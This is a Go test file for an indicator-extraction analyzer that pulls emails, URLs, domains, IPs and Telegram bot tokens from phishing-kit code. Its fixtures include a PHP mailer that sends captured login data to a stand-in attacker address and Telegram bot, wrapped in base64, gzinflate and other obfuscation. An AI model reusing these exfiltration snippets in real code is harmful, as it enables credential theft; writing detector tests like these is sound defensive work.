package ioc

import (
	"bytes"
	"compress/flate"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"io"
	"strings"
	"testing"

	"dewar/analyzers/decode"
)

func b64(s string) string  { return base64.StdEncoding.EncodeToString([]byte(s)) }
func hexs(s string) string { return hex.EncodeToString([]byte(s)) }

func deflate(s string) []byte {
	var b bytes.Buffer
	w, _ := flate.NewWriter(&b, flate.BestCompression)
	w.Write([]byte(s))
	w.Close()
	return b.Bytes()
}

// want is one expected indicator; chain "" is plain text.
type want struct {
	typ   Type
	value string
	chain string
}

func (w want) String() string { return fmt.Sprintf("%s %q [%s]", w.typ, w.value, w.chain) }

func keyOf(in Indicator) want { return want{in.Type, in.Value, strings.Join(in.Chain, ">")} }

func dump(r Result) string {
	var b strings.Builder
	for _, in := range r.Indicators {
		fmt.Fprintf(&b, "  %v class=%s @%d ctx=%q\n", keyOf(in), in.Class, in.Offset, in.Context)
	}
	return b.String()
}

func has(r Result, w want) bool {
	for _, in := range r.Indicators {
		if keyOf(in) == w {
			return true
		}
	}
	return false
}

const mailer = `<?php
$to = "x@evil.example";
$subject = "New Login " . $_SERVER['REMOTE_ADDR'];
$headers = "From: Result <result@kit-mailer.com>";
mail($to, $subject, $message, $headers);
$url = "https://api.telegram.org/bot123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw1/sendMessage?chat_id=-1001234567890&text=" . urlencode($message);
file_get_contents($url);
?>`

// TestFinds: planted indicators in realistic kit snippets, each with the
// chain it must carry.
func TestFinds(t *testing.T) {
	const token = "123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw1"
	mailerWants := func(chain string) []want {
		return []want{
			{Email, "x@evil.example", chain},
			{Domain, "evil.example", chain},
			{Email, "result@kit-mailer.com", chain},
			{TelegramToken, token, chain},
			{TelegramChat, "-1001234567890", chain},
			{URL, "https://api.telegram.org/bot" + token + "/sendMessage?chat_id=-1001234567890&text=", chain},
			{Domain, "api.telegram.org", chain},
		}
	}
	for _, tc := range []struct {
		name string
		in   string
		want []want
	}{
		{"plain mailer", mailer, mailerWants("")},
		{"base64 eval", `<?php eval(base64_decode("` + b64(mailer) + `")); ?>`, mailerWants("base64")},
		{"gzinflate base64", `<?php eval(gzinflate(base64_decode('` + base64.StdEncoding.EncodeToString(deflate(mailer)) + `'))); ?>`, mailerWants("base64>deflate")},
		{"hex2bin", `<?php $e = hex2bin("` + hexs("x@evil.example") + `"); mail($e, "hi", $m);`, []want{{Email, "x@evil.example", "hex"}}},
		{"x escapes", `$u = "\x68\x74\x74\x70\x73://\x65vil.example.com/gate.php";`, []want{{URL, "https://evil.example.com/gate.php", "escape"}, {Domain, "evil.example.com", "escape"}}},
		{"u escapes js", `fetch("\u0068\u0074\u0074\u0070\u0073://evil.example.com/p", {method: "POST"})`, []want{{URL, "https://evil.example.com/p", "escape"}}},
		{"rot13", `$to = str_rot13("k@rivy.rknzcyr");`, []want{{Email, "x@evil.example", "rot13"}}},
		{"urlencode", `$u = urldecode("%68%74%74%70%73%3A%2F%2Fevil.example.com%2Fnext.php");`, []want{{URL, "https://evil.example.com/next.php", "url"}}},
		{"chr concat", `$u = chr(104).chr(116).chr(116).chr(112).chr(58).chr(47).chr(47)."evil.example.com/r.php";`, []want{{URL, "http://evil.example.com/r.php", "charcode"}}},
		{"fromCharCode", `var to = String.fromCharCode(120,64,101,118,105,108,46,101,120,97,109,112,108,101);`, []want{{Email, "x@evil.example", "charcode"}}},
		{"php concat", `$to = "x@ev" . "il.exa" . "mple";`, []want{{Email, "x@evil.example", "concat"}}},
		{"js concat", `var u = "ht" + "tps://evil.example.com" + "/gate";`, []want{{URL, "https://evil.example.com/gate", "concat"}}},
		{"base64 then hex", `$p = "` + b64(hexs("https://evil.example.com/drop.php")) + `";`, []want{{URL, "https://evil.example.com/drop.php", "base64>hex"}}},
		{"telegram plain", `$token = "` + token + `"; $chat_id = "987654321";`, []want{{TelegramToken, token, ""}, {TelegramChat, "987654321", ""}}},
		{"telegram array", `$data = array("chat_id" => "-100987654321", 'text' => $msg);`, []want{{TelegramChat, "-100987654321", ""}}},
		{"telegram js", `fetch(api, {body: JSON.stringify({chat_id: -1001234567890, text: m})});`, []want{{TelegramChat, "-1001234567890", ""}}},
		{"telegram json", `{"chat_id":"@stolen_logs_chan","text":"hi"}`, []want{{TelegramChat, "@stolen_logs_chan", ""}}},
		{"telegram define", `define('CHAT_ID', '5566778899');`, []want{{TelegramChat, "5566778899", ""}}},
		{"refanged url", `C2: hxxps://evil[.]example[.]com/gate[.]php`, []want{{URL, "https://evil.example.com/gate.php", ""}, {Domain, "evil.example.com", ""}}},
		{"refanged colon", `hxxp[:]//198.51.100.7/panel`, []want{{URL, "http://198.51.100.7/panel", ""}, {IP, "198.51.100.7", ""}}},
		{"refanged email", `report to x[@]evil[.]example[.]com`, []want{{Email, "x@evil.example.com", ""}}},
		{"refanged dot word", `evil[dot]example[dot]net`, []want{{Domain, "evil.example.net", ""}}},
		{"json escaped url", `{"redirect":"https:\/\/evil.example.com\/login\/"}`, []want{{URL, "https://evil.example.com/login/", ""}}},
		{"nested urls", `<a href="https://r.example.com/away?u=https://evil.example.net/p&v=http://198.51.100.9/x">`, []want{
			{URL, "https://r.example.com/away?u=https://evil.example.net/p&v=http://198.51.100.9/x", ""},
			{URL, "https://evil.example.net/p&v=http://198.51.100.9/x", ""}, {URL, "http://198.51.100.9/x", ""},
			{Domain, "evil.example.net", ""}, {IP, "198.51.100.9", ""}}},
		{"url case", `Location: HTTPS://Evil.Example.COM/Path?A=B`, []want{{URL, "https://evil.example.com/Path?A=B", ""}, {Domain, "evil.example.com", ""}}},
		{"url userinfo", `ftp://user:pass@files.example.org/x`, []want{{URL, "ftp://user:pass@files.example.org/x", ""}, {Domain, "files.example.org", ""}}},
		{"ipv6 url", `http://[2001:db8::1]:8080/x`, []want{{URL, "http://[2001:db8::1]:8080/x", ""}, {IP, "2001:db8::1", ""}}},
		{"ips", `$allowed = array('203.0.113.9', "10.1.2.3", '8.8.8.8'); // deny 66.249.66.1`, []want{{IP, "203.0.113.9", ""}, {IP, "10.1.2.3", ""}, {IP, "8.8.8.8", ""}, {IP, "66.249.66.1", ""}}},
		{"ipv6", `$v6 = "2a03:2880:f10c:83:face:b00c:0:25de";`, []want{{IP, "2a03:2880:f10c:83:face:b00c:0:25de", ""}}},
		{"bare domains", `$panel = "evil-panel.com"; // backup at login-verify.xyz, www.secure-update.top, 'evil.top/gate.php'`, []want{{Domain, "evil-panel.com", ""}, {Domain, "login-verify.xyz", ""}, {Domain, "www.secure-update.top", ""}, {Domain, "evil.top", ""}}},
		{"quoted zip path", `$mirror = 'downloads.evil-cdn.zip/x';`, []want{{Domain, "downloads.evil-cdn.zip", ""}}},
		{"idn url", `https://пример.рф/login`, []want{{Domain, "xn--e1afmkfd.xn--p1ai", ""}}},
		{"entity email", `<a href="mailto:&#120;&#64;evil.example">contact</a>`, []want{{Email, "x@evil.example", "html"}}},
		{"t.me", `join t.me/stolenlogs`, []want{{Domain, "t.me", ""}}},
		{"license comment", `/*! jQuery v3.6.1 | (c) OpenJS Foundation | jquery.org/license */`, []want{{Domain, "jquery.org", ""}}},
		{"chinese text", "访问evil-login.com获取", []want{{Domain, "evil-login.com", ""}}},
		{"binary strings", "\x00\x00evil-c2.net\x00\x01", []want{{Domain, "evil-c2.net", ""}}},
	} {
		r := Extract([]byte(tc.in), Options{})
		for _, w := range tc.want {
			if !has(r, w) {
				t.Errorf("%s: missing %v; got:\n%s", tc.name, w, dump(r))
			}
		}
		for _, in := range r.Indicators {
			if in.Offset < 0 || in.Offset >= int64(len(tc.in)) || in.Context == "" {
				t.Errorf("%s: %v at %d, context %q", tc.name, keyOf(in), in.Offset, in.Context)
			}
		}
	}
}

// TestNothingElse: benign content yields exactly what is listed.
func TestNothingElse(t *testing.T) {
	png := append([]byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10"), bytes.Repeat([]byte{0x00, 0xff, 0x13, 0x88, 0x7a, 0x2e, 0x63, 0x6f, 0x6d}, 80)...)
	for _, tc := range []struct {
		name string
		in   string
		want []want
	}{
		{"file names", `run.sh payload.zip wp-login.php jquery-3.6.0.min.js logo.png data.json setup.exe index.php style.css config.json image.png README.md app.py script.pl "payload.zip" 'run.sh' backup.tar.gz db.sql.zip jquery.min.map`, nil},
		{"file paths", `<script src="assets/js/jquery.min.js"></script><link href="css/style.css"> include('inc/config.inc.php'); require_once "lib/mail.class.php";`, nil},
		{"versions", `version 1.2.3.4; v4.9.8; jQuery v3.6.0; @version 2.0.1.7; $version = '5.0.0.1'; "ver": "10.0.19041.1"; Chrome/41.0.228.0 Safari/537.36; build 10.0.0.1`, nil},
		{"section numbers", `<h3>24.6.1.9. Help menu</h3> // 4.2.6.6 see 7.6.3.1 and 1.3.6.1.4.1.311`, nil},
		{"css numbers", `.btn{margin:0.5em 1.5rem;line-height:1.42857143;transform:scale(1.05);width:33.333%;font:12px/1.5 Arial}.nav.active>.item.link{color:#fff}`, nil},
		{"svg path", `<path d="M12.5 3.51.98.32 2.03.5 3.11.5 3.5 0 6.58-1.8 8.37-4.52z"/>`, nil},
		{"png data uri", `<img src="data:image/png;base64,` + base64.StdEncoding.EncodeToString(png) + `">`, nil},
		{"png base64 var", `var logo = "` + base64.StdEncoding.EncodeToString(png) + `";`, nil},
		{"minified js", `!function(e,t){e.fn.extend({id:t.id,name:this.name});var n=e.target.style,r=window.top,i=el.style.display,o=user.id,a=t.data.info;a.b.c=e.ui.ie;wrapMap.th=wrapMap.td;navigator.onLine&&console.info("x");re.test(s);document.location.host;e.is(":visible")}(jQuery,this);`, nil},
		{"quoted config keys", `config.get('author.email'); has('fs.read'); t('login.title'); i18n("user.name")`, nil},
		{"php code", `$this->name = $row.name; $a.$b; $obj->data.length; self::$instance; DB::table('users'); std::vector<int> v;`, nil},
		{"times and macs", `at 12:30:45 on 2024-01-02, mac 00:1a:2b:3c:4d:5e, a::before{} DB::e ::`, nil},
		{"retina and npm", `logo@2x.png icon@3x.jpg jquery@3.6.0 @media screen @import "x.css"`, nil},
		{"hashes", `md5 d41d8cd98f00b204e9800998ecf8427e sha1 da39a3ee5e6b4b0d3255bfef95601890afd80709 uuid 123e4567-e89b-12d3-a456-426614174000`, nil},
		{"templates", `"http://" . $host . "/x"; "https://" + domain + "/"; 'https://%s/%s'; "http://${host}/"; "mailto:" + email`, nil},
		{"mixed with real", `run.sh then https://evil.example.com/x and version 1.2.3.4`, []want{
			{URL, "https://evil.example.com/x", ""}, {Domain, "evil.example.com", ""}}},
		{"unquoted file tld", `mirror: downloads.evil-cdn.zip and evil.top and user.info`, nil},
		{"chat id noise", `$chatIdentifier = 12345678; chat_ids = [1]; chat_id = $cid; chat: 12345678;`, nil},
		{"ip url host", `http://127.0.0.1:8080/admin`, []want{{URL, "http://127.0.0.1:8080/admin", ""}, {IP, "127.0.0.1", ""}}},
	} {
		r := Extract([]byte(tc.in), Options{})
		got := map[want]bool{}
		for _, in := range r.Indicators {
			got[keyOf(in)] = true
		}
		wantSet := map[want]bool{}
		for _, w := range tc.want {
			wantSet[w] = true
			if !got[w] {
				t.Errorf("%s: missing %v", tc.name, w)
			}
		}
		for w := range got {
			if !wantSet[w] {
				t.Errorf("%s: unexpected %v; got:\n%s", tc.name, w, dump(r))
			}
		}
	}
}

func TestIPClass(t *testing.T) {
	for _, tc := range []struct{ in, value, class string }{
		{`"8.8.4.4"`, "8.8.4.4", Public},
		{`"10.20.30.40"`, "10.20.30.40", Private},
		{`"172.16.5.4"`, "172.16.5.4", Private},
		{`"192.168.1.1"`, "192.168.1.1", Private},
		{`"127.0.0.1"`, "127.0.0.1", Loopback},
		{`"169.254.169.254"`, "169.254.169.254", LinkLocal},
		{`"239.255.255.250"`, "239.255.255.250", Multicast},
		{`"0.0.0.0"`, "0.0.0.0", Unspecified},
		{`"192.0.2.10"`, "192.0.2.10", Documentation},
		{`"100.64.1.1"`, "100.64.1.1", Reserved},
		{`"255.255.255.255"`, "255.255.255.255", Reserved},
		{`"::1"`, "::1", Loopback},
		{`"fe80::1:2:3"`, "fe80::1:2:3", LinkLocal},
		{`"fd12:3456:789a::1"`, "fd12:3456:789a::1", Private},
		{`"2001:db8:1::1"`, "2001:db8:1::1", Documentation},
		{`"::ffff:203.0.113.5"`, "203.0.113.5", Documentation},
		{`"2606:4700:4700::1111"`, "2606:4700:4700::1111", Public},
	} {
		r := Extract([]byte(tc.in), Options{})
		if len(r.Indicators) != 1 || r.Indicators[0].Value != tc.value || r.Indicators[0].Class != tc.class {
			t.Errorf("%s: want %s %s, got:\n%s", tc.in, tc.value, tc.class, dump(r))
		}
	}
}

// TestWindows: chunking and window cuts change nothing; an indicator
// across a window boundary is found once, whole, at its file offset.
func TestWindows(t *testing.T) {
	filler := strings.Repeat("lorem ipsum dolor sit amet, consectetur adipiscing elit;\n", 3000) // ~170 KiB
	url := "https://evil.example.com/collect.php?id=42"
	enc := `eval(base64_decode("` + b64(mailer) + `"));`
	var in strings.Builder
	var offsets []int
	for i := range 12 {
		in.WriteString(filler[:len(filler)-i*977])
		offsets = append(offsets, in.Len())
		in.WriteString(url + "\n" + enc + "\n")
	}
	data := []byte(in.String())
	opts := Options{Window: 256 << 10}
	whole := Extract(data, opts)

	s := New(opts)
	if _, err := io.CopyBuffer(s, bytes.NewReader(data), make([]byte, 7919)); err != nil {
		t.Fatal(err)
	}
	chunked := s.Result()
	if dump(whole) != dump(chunked) {
		t.Errorf("chunking changed the result:\n%s\nvs\n%s", dump(whole), dump(chunked))
	}
	big := Extract(data, Options{Window: 64 << 20})
	if dump(whole) != dump(big) {
		t.Errorf("windows changed the result:\n%s\nvs\n%s", dump(whole), dump(big))
	}
	for _, in := range whole.Indicators {
		if keyOf(in) == (want{URL, url, ""}) && in.Offset != int64(offsets[0]) {
			t.Errorf("url at %d, want %d", in.Offset, offsets[0])
		}
	}
	if !has(whole, want{Email, "x@evil.example", "base64"}) || !has(whole, want{URL, url, ""}) {
		t.Errorf("missing finds:\n%s", dump(whole))
	}
	// Cut anywhere near a window edge: the URL is never reported cut.
	for _, in := range whole.Indicators {
		if in.Type == URL && in.Chain == nil && in.Value != url {
			t.Errorf("cut URL %q", in.Value)
		}
	}
}

func TestLimits(t *testing.T) {
	var in strings.Builder
	for i := range 500 {
		fmt.Fprintf(&in, "host%d.example.com\n", i)
	}
	r := Extract([]byte(in.String()), Options{MaxIndicators: 100})
	if len(r.Indicators) != 100 || !r.Truncated {
		t.Errorf("MaxIndicators: %d, truncated %v", len(r.Indicators), r.Truncated)
	}
	r = Extract([]byte("a.example.com "+strings.Repeat(" ", 1<<20)+"b.example.com"), Options{MaxBytes: 1 << 20})
	if len(r.Indicators) != 1 || !r.Truncated {
		t.Errorf("MaxBytes: %s truncated %v", dump(r), r.Truncated)
	}
	r = Extract([]byte("a.example.com"), Options{})
	if r.Truncated {
		t.Error("small file truncated")
	}
	// Decode output is a per-file budget: tiny budget, no decoded finds.
	r = Extract([]byte(`eval(base64_decode("`+b64(mailer)+`"));`), Options{Decode: decodeOpts(8)})
	for _, in := range r.Indicators {
		if in.Chain != nil {
			t.Errorf("decoded find past the budget: %v", keyOf(in))
		}
	}
}

// TestContextBounded: context stays short around a long match.
func TestContextBounded(t *testing.T) {
	long := "https://evil.example.com/" + strings.Repeat("a", 3000)
	r := Extract([]byte(strings.Repeat("x", 100)+" "+long+" "+strings.Repeat("y", 100)), Options{})
	for _, in := range r.Indicators {
		if len(in.Context) > maxContext+2*ContextBytes+3 || len(in.Value) > maxValue {
			t.Errorf("%s: context %d bytes, value %d", in.Type, len(in.Context), len(in.Value))
		}
	}
	if len(r.Indicators) == 0 {
		t.Error("long URL not found")
	}
}

func decodeOpts(maxOutput int) decode.Options { return decode.Options{MaxOutput: maxOutput} }
